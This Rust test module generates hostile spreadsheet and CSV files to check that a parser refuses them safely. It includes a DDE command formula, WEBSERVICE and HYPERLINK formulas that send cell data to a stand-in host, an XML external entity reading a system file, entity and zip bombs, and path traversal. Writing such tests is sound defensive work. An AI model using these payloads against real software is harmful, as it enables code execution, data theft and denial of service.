//! Files that are meant to do harm, or that are not what their names say: each ends soon, in bounded memory, with a
//! message that names the file, and leaves nothing behind that was not in it.

use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::Path;

use crate::sector::{Spelling, authorities};
use crate::sheet::{Cell, Sheet};
use crate::tables::Table;
use crate::text::{self, Encoding};
use crate::xlsx::{around, parts, rows};
use crate::zip::{Entry, archive};
use crate::{ods, xls, xlsx};

/// A hostile file.
pub(crate) struct Hostile {
    /// What it does.
    pub(crate) name: &'static str,
    pub(crate) file: HostileFile,
    pub(crate) end: End,
}

/// A file that may be too large to be kept in memory.
pub(crate) struct HostileFile {
    pub(crate) name: &'static str,
    beginning: Vec<u8>,
    block: Vec<u8>,
    times: usize,
}

impl HostileFile {
    /// Writes it into a folder.
    pub(crate) fn write(&self, folder: &Path) {
        let mut file = BufWriter::new(File::create(folder.join(self.name)).unwrap());
        file.write_all(&self.beginning).unwrap();
        for _ in 0..self.times {
            file.write_all(&self.block).unwrap();
        }
    }
}

/// How the reading of a hostile file ends.
#[derive(Clone, Copy, Debug, PartialEq)]
pub(crate) enum End {
    /// Refused, with the file's name and these words.
    Refused(&'static [&'static str]),
    /// The figures of the small table of complaints received: what is hostile in it does nothing.
    Read,
    /// One or the other: the harm is what counts.
    Either,
}

/// All of them.
pub(crate) fn all() -> Vec<Hostile> {
    [
        formulas(),
        bombs(),
        archives(),
        rows_without_end(),
        far_corners(),
        disguises(),
        old_workbooks(),
        texts(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn file(name: &'static str, file: &'static str, bytes: Vec<u8>, end: End) -> Hostile {
    let file = HostileFile {
        name: file,
        beginning: bytes,
        block: Vec::new(),
        times: 0,
    };
    Hostile { name, file, end }
}

/// The small table of complaints received.
fn received() -> Sheet {
    Table::Received.sheet(&authorities(10), Spelling::Full)
}

/// A workbook of this XML as its only sheet.
fn workbook(sheet: &str) -> Vec<u8> {
    archive(&parts(&[("Received", sheet.to_owned())]))
}

fn formulas() -> Vec<Hostile> {
    let with = |cell: &str, formula: &str, cached| {
        let mut sheet = received();
        sheet.set(cell, Cell::Formula(formula.to_owned(), cached));
        xlsx::by_hand(&sheet.into())
    };
    let Cell::Number(value) = received().value("C7") else {
        panic!("a number")
    };
    let deep = format!("{}1{}", "SUM(".repeat(100_000), ")".repeat(100_000));
    let mut names = received();
    names.set("A7", "=HYPERLINK(\"http://example.invalid/?\"&B7,\"Click\")");
    vec![
        file(
            "deep-formula",
            "a.xlsx",
            with("C7", &deep, None),
            End::Refused(&["Received", "C7"]),
        ),
        file(
            "deep-formula-with-a-value",
            "a.xlsx",
            with("C7", &deep, Some(value)),
            End::Either,
        ),
        file(
            "command-as-formula",
            "a.xlsx",
            with("C7", "cmd|' /C calc'!A0", None),
            End::Refused(&["Received", "C7"]),
        ),
        file(
            "web-service-as-formula",
            "a.xlsx",
            with("C7", "WEBSERVICE(\"http://example.invalid/\"&A7)", None),
            End::Refused(&["Received", "C7"]),
        ),
        file("link-for-a-name", "a.csv", text::write(&names), End::Refused(&["A7"])),
    ]
}

/// Parts that unpack to three gigabytes.
fn bombs() -> Vec<Hostile> {
    const GIGABYTES: usize = 3000;
    let zeros = vec![0; 1 << 20];
    let spaces = vec![b' '; 1 << 20];
    let (start, end) = halves();
    let full_of_spaces = || Entry::repeated(SHEET, start.as_bytes(), &spaces, GIGABYTES, end.as_bytes());
    let unread = Entry::repeated("docProps/thumbnail.jpeg", b"", &zeros, GIGABYTES, b"");
    let content = Entry::repeated("content.xml", b"<a>", &spaces, GIGABYTES, b"</a>");
    vec![
        file(
            "zip-bomb-of-zeros",
            "a.xlsx",
            of_a_sheet(Entry::repeated(SHEET, b"", &zeros, GIGABYTES, b"")),
            End::Refused(&[]),
        ),
        file(
            "zip-bomb-of-spaces",
            "a.xlsx",
            of_a_sheet(full_of_spaces()),
            End::Either,
        ),
        file(
            "zip-bomb-that-claims-to-be-small",
            "a.xlsx",
            of_a_sheet(full_of_spaces().claiming(4000)),
            End::Either,
        ),
        file(
            "zip-bomb-in-open-document",
            "a.ods",
            archive(&ods::frame([content])),
            End::Refused(&[]),
        ),
        file(
            "zip-bomb-in-a-part-that-nobody-reads",
            "a.xlsx",
            with_part(unread),
            End::Either,
        ),
    ]
}

fn archives() -> Vec<Hostile> {
    let mut other = received();
    other.set("B5", 7777u32);
    let other = Entry::deflated(SHEET, around(&rows(&other)).as_bytes());
    let whole = workbook(&around(&rows(&received())));
    let mut without_sheet = parts(&[("Received", String::new())]);
    without_sheet.pop();
    let climbing = Entry::stored("../../../escaped.txt", b"escaped");
    vec![
        file("path-out-of-the-folder", "a.xlsx", with_part(climbing), End::Either),
        file("two-parts-of-one-name", "a.xlsx", with_part(other), End::Refused(&[])),
        file(
            "truncated",
            "a.xlsx",
            whole[..whole.len() / 2].to_vec(),
            End::Refused(&[]),
        ),
        file("empty-archive", "a.xlsx", archive(&[]), End::Refused(&[])),
        file(
            "no-sheet-where-one-is-named",
            "a.xlsx",
            archive(&without_sheet),
            End::Refused(&[]),
        ),
        file(
            "broken-xml",
            "a.xlsx",
            workbook("<worksheet><sheetData><row><c"),
            End::Refused(&[]),
        ),
        file(
            "entity-bomb",
            "a.xlsx",
            with_entities(&entity_bomb(), "&g;"),
            End::Refused(&[]),
        ),
        file(
            "entity-of-a-file",
            "a.xlsx",
            with_entities(r#"<!ENTITY x SYSTEM "file:///etc/hostname">"#, "&x;"),
            End::Refused(&[]),
        ),
    ]
}

/// The small table with entities declared, one of them in the place of a heading.
fn with_entities(entities: &str, used: &str) -> Vec<u8> {
    let sheet = around(&rows(&received()).replace("Authority name", used));
    workbook(&sheet.replacen("?>", &format!("?><!DOCTYPE x [{entities}]>"), 1))
}

/// Entities of which each is the one before it twenty times: `&g;` is a gigabyte.
fn entity_bomb() -> String {
    let mut entities = r#"<!ENTITY a "aaaaaaaaaaaaaaaa">"#.to_owned();
    for pair in b"abcdefg".windows(2) {
        let inner = format!("&{};", char::from(pair[0])).repeat(20);
        entities += &format!(r#"<!ENTITY {} "{inner}">"#, char::from(pair[1]));
    }
    entities
}

/// The part that holds a workbook's only sheet.
const SHEET: &str = "xl/worksheets/sheet1.xml";

/// A workbook with this part as its only sheet.
fn of_a_sheet(sheet: Entry) -> Vec<u8> {
    let mut parts = parts(&[("Received", String::new())]);
    // The sheet comes last.
    parts.pop();
    parts.push(sheet);
    archive(&parts)
}

/// The small table with one more part.
fn with_part(part: Entry) -> Vec<u8> {
    let mut parts = parts(&[("Received", around(&rows(&received())))]);
    parts.push(part);
    archive(&parts)
}

/// The small table as XML, cut before the end of its rows.
fn halves() -> (String, String) {
    let sheet = around(&rows(&received()));
    let (start, end) = sheet.split_at(sheet.find("</sheetData>").unwrap());
    (start.to_owned(), end.to_owned())
}

/// The small table, and below it this row a million times.
fn million(row: &str) -> Vec<u8> {
    let (start, end) = halves();
    let block = row.repeat(1024);
    of_a_sheet(Entry::repeated(
        SHEET,
        start.as_bytes(),
        block.as_bytes(),
        1023,
        end.as_bytes(),
    ))
}

fn rows_without_end() -> Vec<Hostile> {
    let name = &authorities(1)[0].name;
    let data = format!(r#"<row><c t="inlineStr"><is><t>{name}</t></is></c><c><v>1</v></c></row>"#);
    let empty_cells = r#"<row><c s="0"/><c s="0"/></row>"#;
    let many: Vec<_> = (0..255).map(|number| format!("Sheet{number}")).collect();
    let many: Vec<_> = many
        .iter()
        .map(|name| (name.as_str(), around(&rows(&received()))))
        .collect();
    let text = around(r#"<row><c t="inlineStr"><is><t></t></is></c></row>"#);
    let (before, after) = text.split_at(text.find("</t>").unwrap());
    let long = Entry::repeated(SHEET, before.as_bytes(), &vec![b'x'; 1 << 20], 64, after.as_bytes());
    vec![
        file("million-rows", "a.xlsx", million(&data), End::Refused(&[])),
        file("million-empty-rows", "a.xlsx", million("<row/>"), End::Either),
        file(
            "million-rows-of-empty-cells",
            "a.xlsx",
            million(empty_cells),
            End::Either,
        ),
        file("sheets-255", "a.xlsx", archive(&parts(&many)), End::Refused(&[])),
        file(
            "text-of-64-megabytes-in-a-cell",
            "a.xlsx",
            of_a_sheet(long),
            End::Refused(&[]),
        ),
    ]
}

/// Sheets that say that they are as large as a sheet can be, and larger.
fn far_corners() -> Vec<Hostile> {
    let claim = |extra: &str| {
        let sheet = around(&(rows(&received()) + extra));
        let dimension = r#"<dimension ref="A1:XFD1048576"/><sheetData>"#;
        workbook(&sheet.replacen("<sheetData>", dimension, 1))
    };
    let far = r#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#;
    let beyond = r#"<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>"#;
    let repeated = |rows: usize, columns: usize| {
        ods::with_content(&ods::content(&format!(
            r#"<table:table table:name="Received"><table:table-row table:number-rows-repeated="{rows}"><table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="{columns}"><text:p>1</text:p></table:table-cell></table:table-row></table:table>"#
        )))
    };
    let endless = repeated(usize::MAX, usize::MAX);
    vec![
        file("claims-the-largest-sheet", "a.xlsx", claim(""), End::Either),
        file("cell-in-the-farthest-corner", "a.xlsx", claim(far), End::Refused(&[])),
        file(
            "cell-beyond-the-farthest-corner",
            "a.xlsx",
            claim(beyond),
            End::Refused(&[]),
        ),
        file(
            "cell-repeated-over-a-sheet",
            "a.ods",
            repeated(1_048_576, 16_384),
            End::Refused(&[]),
        ),
        file("cell-repeated-without-end", "a.ods", endless, End::Refused(&[])),
    ]
}

fn disguises() -> Vec<Hostile> {
    let book = || received().into();
    // The least that is a picture: its signature, and a header without the data.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0".to_vec();
    let encrypted = xls::compound(&[
        ("EncryptionInfo", b"\x04\0\x04\0\x40\0\0\0<encryption/>".as_slice()),
        ("EncryptedPackage", &[0x5a; 9000]),
    ]);
    let html = "<html><body><table><tr><td>Authority name</td><td>Total</td></tr></table></body></html>";
    vec![
        file("xlsx-named-xls", "a.xls", xlsx::write(&book()), End::Either),
        file("xls-named-xlsx", "a.xlsx", xls::write(&book()), End::Either),
        file("ods-named-xlsx", "a.xlsx", ods::write(&book()), End::Either),
        file("text-named-xlsx", "a.xlsx", text::write(&received()), End::Refused(&[])),
        file("xlsx-named-csv", "a.csv", xlsx::write(&book()), End::Either),
        file("encrypted", "a.xlsx", encrypted, End::Refused(&["password"])),
        file(
            "pdf-named-xlsx",
            "a.xlsx",
            b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n".to_vec(),
            End::Refused(&[]),
        ),
        file("png-named-xlsx", "a.xlsx", png, End::Refused(&[])),
        file("html-named-xls", "a.xls", html.as_bytes().to_vec(), End::Refused(&[])),
        file("html-named-csv", "a.csv", html.as_bytes().to_vec(), End::Refused(&[])),
        file("empty-xlsx", "a.xlsx", Vec::new(), End::Refused(&[])),
        file("empty-csv", "a.csv", Vec::new(), End::Refused(&[])),
        file(
            "word-document",
            "a.docx",
            archive(&[Entry::stored("word/document.xml", b"<w/>")]),
            End::Refused(&[]),
        ),
    ]
}

fn old_workbooks() -> Vec<Hostile> {
    let stream = || xls::stream(&received().into());
    let find = |bytes: &[u8], kind: u16| {
        let mut at = 0;
        while bytes[at..at + 2] != kind.to_le_bytes() {
            at += 4 + usize::from(u16::from_le_bytes([bytes[at + 2], bytes[at + 3]]));
        }
        at
    };
    let book = |bytes: &[u8]| xls::compound(&[("Workbook", bytes)]);
    // The table of strings says that it has four thousand million of them.
    let mut strings = stream();
    let at = find(&strings, 0x00fc);
    strings[at + 4..at + 12].fill(0xff);
    // The sheet is said to start far behind the end.
    let mut start = stream();
    let at = find(&start, 0x0085);
    start[at + 4..at + 8].fill(0x7f);
    // The first record of the sheet is longer than what is left.
    let mut long = stream();
    let at = find(&long, 0x00fc);
    long[at + 2..at + 4].fill(0xff);
    // A chain of sectors that bites its tail: the table of sectors is the first sector of the file.
    let mut circle = book(&stream());
    for entry in circle[512..512 + 40].chunks_mut(4).skip(1) {
        entry.copy_from_slice(&3u32.to_le_bytes());
    }
    let whole = book(&stream());
    vec![
        file("xls-with-countless-strings", "a.xls", book(&strings), End::Either),
        file(
            "xls-with-a-sheet-behind-its-end",
            "a.xls",
            book(&start),
            End::Refused(&[]),
        ),
        file(
            "xls-with-a-record-beyond-its-end",
            "a.xls",
            book(&long),
            End::Refused(&[]),
        ),
        file("xls-in-a-circle", "a.xls", circle, End::Refused(&[])),
        file(
            "xls-truncated",
            "a.xls",
            whole[..whole.len() / 2].to_vec(),
            End::Refused(&[]),
        ),
        file(
            "xls-without-a-workbook",
            "a.xls",
            xls::compound(&[("WordDocument", &[0; 5000])]),
            End::Refused(&[]),
        ),
    ]
}

fn texts() -> Vec<Hostile> {
    let table = text::text(&received(), ',');
    let zeros = table.replacen("Housing", "Hou\0sing", 1).into_bytes();
    // UTF-16 without the mark that says so.
    let unmarked = text::encode(&table, Encoding::Utf16LittleEndian)[2..].to_vec();
    let mut odd = text::encode(&table, Encoding::Utf16LittleEndian);
    odd.pop();
    let large = |name, beginning: &[u8], block: Vec<u8>, times| Hostile {
        name,
        file: HostileFile {
            name: "a.csv",
            beginning: beginning.to_vec(),
            block,
            times,
        },
        end: End::Refused(&[]),
    };
    let row = format!("{},1,1,1,1,1,1,1,1,1,9\r\n", authorities(1)[0].name);
    vec![
        file("csv-with-zero-bytes", "a.csv", zeros, End::Refused(&[])),
        file("csv-in-unmarked-utf-16", "a.csv", unmarked, End::Either),
        file("csv-of-half-a-letter", "a.csv", odd, End::Refused(&[])),
        file("csv-of-zeros", "a.csv", vec![0; 100_000], End::Refused(&[])),
        file(
            "csv-with-an-open-quote",
            "a.csv",
            format!("{table}\"").into_bytes(),
            End::Either,
        ),
        large("csv-of-one-line-of-100-megabytes", b"", vec![b'x'; 1 << 20], 100),
        large("csv-of-100-megabytes-of-commas", b"", vec![b','; 1 << 20], 100),
        large(
            "csv-of-a-million-rows",
            table.as_bytes(),
            row.repeat(1024).into_bytes(),
            1024,
        ),
        large("csv-of-100-megabytes-in-a-quote", b"\"", b"x\r\n".repeat(1 << 18), 133),
    ]
}
